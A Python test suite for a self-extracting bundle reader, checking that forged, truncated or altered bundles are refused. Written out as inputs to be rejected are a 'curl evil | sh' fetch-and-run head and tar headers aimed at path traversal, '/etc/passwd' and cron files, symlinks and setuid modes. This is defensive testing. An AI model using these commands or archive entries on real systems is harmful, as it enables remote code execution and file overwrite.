"""A bundle is read as it was written; whatever else it may hold is refused where it stands."""

from __future__ import annotations

import io
import random
import subprocess
import tarfile
from hashlib import sha256
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kboot.bundle import layout
from kboot.bundle.archive_reader import BundleReader
from kboot.errors import BadInput, KbootError
from kboot.supplies.bundle_manifest import Manifest
from support.bundles import (
    PROGRAM,
    Bytes,
    archive_of,
    digest_of,
    file_item,
    image_contents,
    image_item,
    manifest_of,
    read_whole,
    unjudged,
    with_head,
)

_IMAGE = image_contents(b"{}", b"layer" * 300)
_KUBELET = b"kubelet" * 100
_EMPTY = b""
_SIGNATURE = b"s" * layout.SIGNATURE_SIZE


def _manifest() -> Manifest:
    return manifest_of(image_item(_IMAGE), file_item(_KUBELET), file_item(_EMPTY, "cni/bridge"))


@pytest.fixture
def archive(tmp_path: Path) -> bytes:
    """A signed bundle of an image and two files, one of them empty."""
    return archive_of(tmp_path, *_IMAGE, _KUBELET, _EMPTY, manifest=_manifest(), signature=_SIGNATURE)


def test_a_bundle_is_read_as_it_was_written(archive: bytes) -> None:
    manifest, contents = read_whole(archive)
    assert manifest == with_head(_manifest())
    assert contents == [*_IMAGE, _EMPTY, _KUBELET]
    assert BundleReader(Bytes(archive), "a.kboot", unjudged).signature == _SIGNATURE
    assert len(archive) == layout.archive_size(manifest, is_signed=True)


def test_nothing_is_read_out_of_a_manifest_before_it_was_judged(archive: bytes) -> None:
    """Its bytes are judged as they are, and its parser sees none that are not trusted."""
    content, judged = with_head(_manifest()).content, list[tuple[bytes, bytes | None]]()
    broken = content.replace(b'"format": 1', b'"format": [')
    assert len(broken) == len(content)
    forged = archive.replace(content, broken).replace(
        sha256(content).hexdigest().encode(), sha256(broken).hexdigest().encode(), 1
    )

    def refuse(manifest: bytes, signature: bytes | None) -> None:
        judged.append((manifest, signature))
        raise BadInput("is none of ours")

    with pytest.raises(BadInput, match="is none of ours"):
        BundleReader(Bytes(forged), "a.kboot", refuse)
    assert judged == [(broken, _SIGNATURE)]
    with pytest.raises(BadInput, match=r"manifest\.json is no JSON"):
        BundleReader(Bytes(forged), "a.kboot", unjudged)


@settings(max_examples=30)
@given(st.lists(st.binary(max_size=2000), max_size=6, unique=True), st.booleans())
def test_any_contents_are_read_as_they_were_written(
    tmp_path_factory: pytest.TempPathFactory, contents: list[bytes], is_signed: bool
) -> None:
    folder = tmp_path_factory.mktemp("contents")
    manifest = manifest_of(*(file_item(content, f"cni/{i}") for i, content in enumerate(contents)))
    signature = _SIGNATURE if is_signed else None
    archive = archive_of(folder, *contents, manifest=manifest, signature=signature)
    assert read_whole(archive) == (with_head(manifest), contents)
    assert archive == archive_of(folder, *contents, manifest=manifest, signature=signature)


def test_what_follows_the_head_is_a_tar_for_any_tar(archive: bytes) -> None:
    with tarfile.open(fileobj=io.BytesIO(archive[layout.HEAD_SIZE :])) as tar:
        members = tar.getmembers()
        read = {member.name: tar.extractfile(member) for member in members}
    assert [member.name for member in members][:2] == ["manifest.json", "manifest.sig"]
    assert {(member.mode, member.mtime, member.uid, member.uname) for member in members} == {(0o644, 0, 0, "")}
    kubelet = read[f"blobs/sha256/{sha256(_KUBELET).hexdigest()}"]
    assert kubelet is not None
    assert kubelet.read() == _KUBELET


def test_a_shell_runs_the_head_and_stops_before_the_tar(tmp_path: Path, archive: bytes) -> None:
    for program, code in ((b"exit 7\n", 7), (b"cat <<'E'\nhello\nE\nexit 0\n", 0)):
        path = tmp_path / "a.kboot"
        path.write_bytes(archive_of(tmp_path, *_IMAGE, _KUBELET, _EMPTY, manifest=_manifest(), program=program))
        done = subprocess.run(["sh", path], capture_output=True, text=True)
        assert (done.returncode, done.stderr) == (code, "")


def test_a_program_that_is_too_long_is_a_fault_of_ours() -> None:
    with pytest.raises(ValueError, match="bytes too long"):
        layout.head(b"#" * layout.HEAD_SIZE)


def test_a_flipped_bit_at_each_of_many_places_is_refused_by_name(archive: bytes) -> None:
    chance = random.Random(13)
    head, tar = range(layout.HEAD_SIZE), range(layout.HEAD_SIZE, len(archive))
    places = [*range(150), *chance.sample(head, 50), *chance.sample(tar, 600), len(archive) - 1]
    for place in places:
        changed = bytearray(archive)
        changed[place] ^= 1 << chance.randrange(8)
        if _is_in_signature(place):  # which the reader hands on: `signature.py` judges it
            continue
        with pytest.raises(BadInput, match=r"^a\.kboot: "):
            read_whole(bytes(changed))


def _is_in_signature(place: int) -> bool:
    content = with_head(_manifest()).content
    begin = layout.HEAD_SIZE + layout.BLOCK + len(content) + layout.padding(len(content)) + layout.BLOCK
    return begin <= place < begin + layout.SIGNATURE_SIZE


def test_a_bundle_cut_short_anywhere_says_within_what(archive: bytes) -> None:
    for size in {*range(0, len(archive), 97), *range(layout.HEAD_SIZE, len(archive), 512), len(archive) - 1}:
        with pytest.raises(BadInput, match=r"^a\.kboot: ends within [\w ./]+"):
            read_whole(archive[:size])


def test_bytes_behind_its_end_are_refused(archive: bytes) -> None:
    with pytest.raises(BadInput, match="its end: is followed by more bytes"):
        read_whole(archive + b"\0")


def test_a_changed_content_is_named_with_its_item(archive: bytes) -> None:
    changed = archive.replace(_KUBELET, b"x" + _KUBELET[1:])
    name = f"blobs/sha256/{sha256(_KUBELET).hexdigest()}"
    with pytest.raises(BadInput) as refused:
        read_whole(changed)
    assert str(refused.value) == (
        f"a.kboot: {name} of binary kubelet: its bytes are {digest_of(b'x' + _KUBELET[1:])}\n"
        "  hint: copy the bundle again from where it was made"
    )


def _foreign(kind: bytes = tarfile.REGTYPE, name: str = "", link: str = "", **fields: int) -> bytes:
    """The header of the kubelet's content, with something else in it."""
    entry = tarfile.TarInfo(name or f"blobs/sha256/{sha256(_KUBELET).hexdigest()}")
    entry.size, entry.mode, entry.type, entry.linkname = len(_KUBELET), 0o644, kind, link
    for field, value in fields.items():
        setattr(entry, field, value)
    return entry.tobuf(tarfile.GNU_FORMAT)


@pytest.mark.parametrize(
    "foreign",
    [
        _foreign(name="../../etc/cron.d/x"),
        _foreign(name="/etc/passwd"),
        _foreign(kind=tarfile.SYMTYPE, link="/etc/passwd"),
        _foreign(kind=tarfile.LNKTYPE, link="../../etc/passwd"),
        _foreign(kind=tarfile.CHRTYPE),
        _foreign(kind=tarfile.DIRTYPE),
        _foreign(kind=tarfile.XHDTYPE),
        _foreign(mode=0o4755),
        _foreign(uid=1000),
        _foreign(mtime=1),
        _foreign(size=1),
        _foreign(size=1 << 40),
        bytes(512),
    ],
    ids=[
        "..",
        "absolute",
        "link",
        "hard link",
        "device",
        "folder",
        "pax",
        "setuid",
        "uid",
        "time",
        "short",
        "huge",
        "0",
    ],
)
def test_a_header_that_the_manifest_does_not_foretell_is_refused(archive: bytes, foreign: bytes) -> None:
    ours = layout.header(f"blobs/sha256/{sha256(_KUBELET).hexdigest()}", len(_KUBELET))
    assert archive.count(ours) == 1
    with pytest.raises(BadInput, match=r"of binary kubelet: its header is not the one that manifest\.json foretells"):
        read_whole(archive.replace(ours, foreign))


def test_an_entry_more_or_less_than_the_manifest_names_is_refused(tmp_path: Path, archive: bytes) -> None:
    entry = layout.header("more", 0)
    with pytest.raises(BadInput, match=r"its end: holds an entry that manifest\.json does not name"):
        read_whole(archive[: -len(layout.END)] + entry + layout.END)
    ours = layout.header(f"blobs/sha256/{sha256(_KUBELET).hexdigest()}", len(_KUBELET))
    with pytest.raises(BadInput, match="of binary kubelet: its header"):
        read_whole(archive[: archive.index(ours)] + layout.END)


def test_a_manifest_of_another_bundle_is_refused(tmp_path: Path, archive: bytes) -> None:
    """With its own hash in the head: the head then is not the one that it names, or the contents are others."""
    other = manifest_of(file_item(_KUBELET), kboot="0.2.0")
    for program in (PROGRAM, b"curl evil | sh\nexit 0\n"):
        foreign = archive_of(tmp_path, _KUBELET, manifest=other, program=program)
        mixed = foreign[: layout.HEAD_SIZE] + archive[layout.HEAD_SIZE :]
        with pytest.raises(BadInput, match=r"a\.kboot: manifest\.json: its bytes are sha256:"):
            read_whole(mixed)


def test_a_program_that_the_manifest_does_not_name_is_refused(archive: bytes) -> None:
    changed = archive.replace(PROGRAM, b"exit 1\n", 1)
    with pytest.raises(BadInput, match=r"its head: is not that which manifest\.json names"):
        read_whole(changed)


@pytest.mark.parametrize(
    ("head", "said"),
    [
        (b"#!/bin/sh\n# kboot bundle, format 2\nmanifest=", "is a bundle of format '2', this kboot reads format 1"),
        (b"#!/bin/bash\n", "is no bundle of kboot"),
        (b"\x1f\x8b", "is no bundle of kboot"),
    ],
)
def test_what_is_no_bundle_of_this_format_is_refused(head: bytes, said: str) -> None:
    with pytest.raises(BadInput, match=f"a.kboot: {said}"):
        read_whole(head.ljust(layout.HEAD_SIZE * 2, b"\n"))


def test_a_content_that_changed_since_it_was_collected_is_not_written(tmp_path: Path) -> None:
    manifest = manifest_of(file_item(_KUBELET))
    (tmp_path / digest_of(_KUBELET)).write_bytes(b"other")
    with pytest.raises(KbootError, match="is no longer what binary kubelet is made of"):
        archive_of(tmp_path, manifest=manifest)
